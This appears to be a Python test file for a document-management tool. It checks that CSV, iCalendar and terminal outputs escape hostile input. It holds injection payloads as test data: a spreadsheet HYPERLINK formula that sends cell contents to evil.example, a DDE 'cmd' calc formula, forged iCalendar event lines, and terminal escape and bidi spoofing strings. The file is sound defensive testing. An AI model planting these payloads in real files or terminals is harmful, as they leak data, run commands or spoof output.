"""Every output escapes for its own format: CSV (no formulas), iCalendar (RFC 5545), the terminal.

The values here bypass validation (they are set on loaded documents, or passed
to the output functions directly): the loader may refuse such characters, but
the outputs must hold whatever reaches them.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest

from qms.build import prepare
from qms.csvsafe import safe_cell
from qms.errors import DataError, DataErrors
from qms.ical import fold, ical_text
from qms.reports import review_csv, review_ics, review_rows
from qms.terminal import terminal_json, terminal_text

from conftest import DEMO_TODAY


@pytest.fixture
def state(org):
    return prepare(org, {}, environ={"QMS_TODAY": DEMO_TODAY}, render=False)


def scheduled(state):
    """The documents on the review schedule, in schedule order."""
    return [state.repository.document(row["id"]) for row in review_rows(state)]


# --------------------------------------------------------------------------- CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "  =1+1", "\u00a0=1+1"]
HARMLESS = ["Control of documents", "Review 2026-03-10", "a = b", "e-mail", "'quoted'", ""]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_reviews_csv_neutralises_formulas_in_every_column(state):
    docs = scheduled(state)
    owner = state.repository.get("role", docs[0].owner)
    owner.data["title"] = "=cmd|' /C calc'!A0"
    originals = {doc.id: doc.data["title"] for doc in docs}
    # the test organisation has fewer scheduled documents than formulas: a few at a time, one left as it is
    for start in range(0, len(FORMULAS), len(docs) - 1):
        for doc in docs:
            doc.data["title"] = originals[doc.id]
        batch = list(zip(docs, FORMULAS[start:start + len(docs) - 1]))
        for doc, title in batch:
            doc.data["title"] = title
        rows = list(csv.DictReader(io.StringIO(review_csv(state), newline="")))
        titles = {row["id"]: row["title"] for row in rows}
        for doc, title in batch:
            assert titles[doc.id] == "'" + title
        assert {row["owner_title"] for row in rows if row["owner"] == owner.id} == {"'=cmd|' /C calc'!A0"}
        untouched = [row for row in rows if row["id"] not in {doc.id for doc, _ in batch}]
        assert untouched and all(not row["title"].startswith("'") for row in untouched)


# --------------------------------------------------------------------------- iCalendar

TRICKY_TITLES = [
    "Bare CR\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:forged",
    "Bare LF\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged",
    "CRLF\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "Specials; commas, and a back\\slash \\n that is text",
    "Prüfmittelüberwachung für Meßgeräte " * 4 + "日本語の手順書 ✓ 😀" * 3,
]


def parse_calendar(text: str) -> list[dict[str, str]]:
    """Events of an RFC 5545 calendar, read back strictly: each as {property name: unescaped value}."""
    data = text.encode("utf-8")
    assert data.endswith(b"\r\n")
    physical = data[:-2].split(b"\r\n")
    for line in physical:
        assert len(line) <= 75, line
        assert b"\r" not in line and b"\n" not in line, line
        line.decode("utf-8")  # a fold never splits a character
    logical: list[str] = []
    for line in physical:
        if line.startswith(b" "):
            logical[-1] += line[1:].decode("utf-8")
        else:
            logical.append(line.decode("utf-8"))
    events, current = [], None
    for line in logical:
        name, _, value = line.partition(":")
        if line == "BEGIN:VEVENT":
            assert current is None, "an event inside an event"
            current = {}
        elif line == "END:VEVENT":
            events.append(current)
            current = None
        elif current is not None:
            assert name not in current, f"{name} twice in one event"
            current[name] = unescape(value)
    assert current is None
    return events


def unescape(value: str) -> str:
    out, chars = [], iter(value)
    for char in chars:
        if char == "\\":
            following = next(chars)
            out.append("\n" if following in "nN" else following)
        else:
            assert char not in ",;", f"unescaped {char!r} in {value!r}"
            out.append(char)
    return "".join(out)


def test_reviews_ics_keeps_each_title_inside_its_own_event(state):
    docs = scheduled(state)
    for doc, title in zip(docs, TRICKY_TITLES):
        doc.data["title"] = title
    events = parse_calendar(review_ics(state))
    assert len(events) == len(docs)
    summaries = {event["UID"].split("-2")[0]: event["SUMMARY"] for event in events}
    for doc, title in zip(docs, TRICKY_TITLES):
        expected = "Review " + doc.id + " " + title
        # a newline is a newline in iCalendar whichever way it was written
        assert summaries[f"review-{doc.id}"] == expected.replace("\r\n", "\n").replace("\r", "\n")


def test_ical_text_escapes_as_rfc_5545_says():
    assert ical_text("a\\b;c,d\ne\r\nf\rg") == "a\\\\b\\;c\\,d\\ne\\nf\\ng"
    assert ical_text("tab\tstays, NUL\x00 and ESC\x1b do not") == "tab\tstays\\, NUL\ufffd and ESC\ufffd do not"


@pytest.mark.parametrize("line", ["SUMMARY:" + "x" * 200, "SUMMARY:" + "é" * 100, "SUMMARY:" + "😀" * 60,
                                  "SUMMARY:" + "a" + "€" * 80])
def test_folding_keeps_every_line_within_75_octets_and_every_character_whole(line):
    parts = fold(line)
    assert all(len(part.encode("utf-8")) <= 75 for part in parts)
    assert all(part.startswith(" ") for part in parts[1:])
    assert parts[0] + "".join(part[1:] for part in parts[1:]) == line
    assert len(parts[0].encode("utf-8")) > 71  # folds as late as it can
    assert fold("SUMMARY:short") == ["SUMMARY:short"]


# --------------------------------------------------------------------------- terminal

UNSAFE = {"\x1b": "\\x1b", "\x00": "\\x00", "\r": "\\r", "\n": "\\n", "\x7f": "\\x7f", "\x9b": "\\x9b",
          "\u202e": "\\u202e", "\u2066": "\\u2066", "\u200b": "\\u200b", "\u2028": "\\u2028",
          "\U000e0041": "\\U000e0041"}


@pytest.mark.parametrize("char", UNSAFE)
def test_terminal_text_shows_control_and_bidi_characters_as_escapes(char):
    assert terminal_text(f"QP-001 a{char}b") == f"QP-001 a{UNSAFE[char]}b"


def test_terminal_text_leaves_ordinary_text_alone():
    text = "data/procedures/QP-001.yml:3:1: title: Prüfung → ✓ 日本語 «ok» (did you mean 'owner'?)"
    assert terminal_text(text) == text


def test_terminal_json_is_the_same_data_without_raw_unsafe_characters():
    value = {"title": "evil\u202e\x1b[2J\x85\u2028 Müller 😀", "emoji": "\U000e0041"}
    text = terminal_json(value, indent=2)
    assert json.loads(text) == value
    assert all(char not in text for char in "\u202e\x1b\x85\u2028\U000e0041")
    assert "Müller 😀" in text


EVIL = "Evil\x1b]0;owned\x07\rdata/x.yml:1:1: fake error\u202eexe.txt"


def test_qms_check_prints_flags_escaped(state, monkeypatch, capsys):
    from qms import cli
    flag = dataclasses.replace(state.analysis.flags[0], message=EVIL, severity="warning", operational=False)
    state.analysis.flags.insert(0, flag)
    monkeypatch.setattr(cli, "prepare_or_exit", lambda *args, **kwargs: state)
    cli.main(["--root", str(state.root), "check"])
    out = capsys.readouterr().out
    assert "Evil\\x1b]0;owned\\x07\\rdata/x.yml:1:1: fake error\\u202eexe.txt" in out
    assert not any(char in out for char in "\x1b\x07\r\u202e")
    cli.main(["--root", str(state.root), "check", "--format", "json"])
    out = capsys.readouterr().out
    assert EVIL in [item["message"] for item in json.loads(out)["flags"]]
    assert not any(char in out for char in "\x1b\x07\r\u202e")


def test_qms_check_prints_data_errors_escaped(org, monkeypatch, capsys):
    import qms.build
    from qms import cli

    def failing(*args, **kwargs):
        raise DataErrors([DataError("data/procedures/QP-001.yml", 3, 8, "title", EVIL)])
    monkeypatch.setattr(qms.build, "prepare", failing)
    assert cli.main(["--root", str(org), "check"]) == 2
    err = capsys.readouterr().err
    assert "title: Evil\\x1b]0;owned\\x07\\rdata/x.yml:1:1: fake error\\u202eexe.txt" in err
    assert not any(char in err for char in "\x1b\x07\r\u202e")
    assert err.count("\n") == 2  # the error and the count: nothing forged a line


def test_qms_search_prints_titles_escaped(org, monkeypatch, capsys):
    import qms.pipeline
    from qms.build import load
    from qms.features import default_registry
    from qms.features.onboarding import run_search
    repository = load(org)
    repository.get("procedure", "QP-001").data["title"] = EVIL
    monkeypatch.setattr(qms.pipeline, "load", lambda *args, **kwargs: repository)
    run_search(org, default_registry(), "documents", limit=20)
    out = capsys.readouterr().out
    assert "QP-001 Evil\\x1b]0;owned\\x07\\rdata/x.yml" in out
    assert not any(char in out for char in "\x1b\x07\r\u202e")
    run_search(org, default_registry(), "documents", limit=20, as_json=True)
    out = capsys.readouterr().out
    assert EVIL in [hit["title"] for hit in json.loads(out)["results"]]
    assert not any(char in out for char in "\x1b\x07\r\u202e")
